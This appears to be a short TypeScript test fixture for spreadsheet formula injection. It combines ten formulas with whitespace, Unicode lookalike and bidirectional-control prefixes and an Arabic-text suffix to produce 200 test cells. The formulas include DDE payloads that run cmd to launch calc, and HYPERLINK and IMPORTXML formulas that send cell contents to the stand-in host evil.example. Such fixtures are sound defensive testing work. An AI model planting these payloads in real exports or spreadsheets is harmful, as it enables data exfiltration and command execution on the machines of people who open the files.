/** Two hundred texts that a spreadsheet would run, if it could. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1;"اضغط هنا")',
  "=cmd|' /C calc'!A0",
  '+966501234567',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1:A9),"//a")',
  '=DDE("cmd";"/C calc";"1")',
  '＝1+1',
  '﹢1',
]
const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\u200f', '\u202e \u2066', '\ufeff']
const after = ['', ' سارة، العتيبي؛ «نريد موقعًا»']

/** None holds a NUL, so that a database keeps each as it is. */
export const hostileCells: readonly string[] = before.flatMap((start) =>
  formulas.flatMap((formula) => after.map((end) => start + formula + end)),
)
